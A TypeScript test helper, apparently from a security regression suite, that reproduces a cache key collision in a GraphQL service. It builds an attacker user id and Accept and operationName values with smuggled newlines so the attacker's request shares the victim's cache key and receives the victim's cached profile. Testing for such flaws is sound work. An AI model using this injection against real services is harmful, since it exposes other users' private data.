// The cross-user key collision, as the second outside probe sent it: a user whose id is the
// victim's id + "\n" + the victim's Accept header, sending the victim's operation name as Accept,
// "\n" + the victim's operation text as operationName and the victim's fragment as the query. Under
// a key joined with "\n" both requests had one key; with both profiles at the same updated_at, the
// attacker got the victim's cached answer.
import { randomUUID } from 'node:crypto';
import { addUsers, userToken } from 'local-auth0/testing';
import { ME } from './graphql';

const VICTIM_ACCEPT = 'application/json';

export interface Collision {
  victimEmail: string;
  /** What the attacker received for the colliding request. */
  attack: { status: number; text: string };
}

async function post(apiUrl: string, token: string, accept: string, body: object) {
  const response = await fetch(`${apiUrl}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', accept, authorization: `Bearer ${token}` },
    body: JSON.stringify(body),
  });
  return { status: response.status, text: await response.text() };
}

/** The victim's `me` answered (and cached) on `victimApi`, the attacker's profile cached through `attackerApi`, then the attack on `victimApi`. */
export async function collideWithVictim(tenantUrl: string, victimApi: string, attackerApi: string): Promise<Collision> {
  const victimId = `auth0|victim-${randomUUID()}`;
  const attackerId = `${victimId}\n${VICTIM_ACCEPT}`;
  const victimEmail = `victim-${randomUUID()}@example.com`;
  // Added in one call: both users get the same updated_at.
  await addUsers(tenantUrl, [
    { user_id: victimId, email: victimEmail },
    { user_id: attackerId, email: `attacker-${randomUUID()}@example.com` },
  ]);
  const [victim, attacker] = await Promise.all([userToken(tenantUrl, { sub: victimId }), userToken(tenantUrl, { sub: attackerId })]);
  for (let i = 0; i < 2; i += 1) {
    const own = await post(victimApi, victim, VICTIM_ACCEPT, { query: ME, operationName: 'Me' });
    if (!own.text.includes(victimEmail)) throw new Error(`the victim's own me failed: ${own.text}`);
  }
  const warm = await post(attackerApi, attacker, VICTIM_ACCEPT, { query: '{ me { id } }' });
  if (warm.status !== 200) throw new Error(`the attacker's own me failed: ${warm.text}`);
  const split = ME.indexOf('\n\nfragment ');
  const operationText = ME.slice(0, split);
  const fragments = ME.slice(split + 2);
  const attack = await post(victimApi, attacker, 'Me', { operationName: `\n${operationText}`, query: fragments });
  return { victimEmail, attack };
}
